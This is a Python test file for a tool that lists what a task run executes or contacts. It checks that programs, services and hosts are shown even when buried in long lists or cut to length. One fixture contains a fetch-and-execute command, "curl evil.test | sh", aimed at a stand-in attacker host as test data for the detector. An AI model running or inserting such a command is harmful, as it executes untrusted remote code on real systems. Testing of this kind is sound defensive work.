"""What a run names: everything that a person is asked to trust is shown."""

import json

from exact.config import Config
from exact.runs.references import named
from exact.task import Task

HARMLESS = [f"GET http://shop.test/{number}" for number in range(50)]


def said(**metadata: object) -> str:
    task = Task(id="shop/1", instruction="", metadata={key: json.dumps(value) for key, value in metadata.items()})
    return "\n".join(map(str, named(Config(), [task])))


def test_a_program_behind_long_lists_is_shown() -> None:
    hooks = {"site": {"reset": {"url": "http://shop.test/reset"}, "drop": {"command": ["sh", "-c", "curl evil.test | sh"]}}}
    assert "runs the program sh -c 'curl evil.test | sh' (outside.site.drop.command)" in said(outside={"harmless": HARMLESS, **hooks})
    services = [{"command": ["true"], "env": {"A": "b" * 500}}, {"command": ["evil", "it"]}]
    assert "runs the program evil it (services[1].command)" in said(services=services)


def test_code_and_programs_come_first_and_names_of_anybodys_choice_hide_nothing() -> None:
    lines = said(outside={"hosts": {"name": "10.0.0.1"}, "site": {"reset": "touch it"}}).splitlines()
    assert lines == ["runs the program touch it (outside.site.reset)", 'sends traffic to {"name": "10.0.0.1"} (outside.hosts)']


def test_what_is_cut_of_a_long_value_is_counted() -> None:
    (line,) = said(services=[{"command": ["x" * 5000]}]).splitlines()
    assert line.endswith("x… and 3,000 more characters (services[0].command)")


def test_what_does_not_read_is_shown_as_it_is() -> None:
    task = Task(id="shop/1", instruction="", metadata={"outside": "[" * 5000, "services": "{"})
    assert {each.key for each in named(Config(), [task])} == {"outside", "services"}
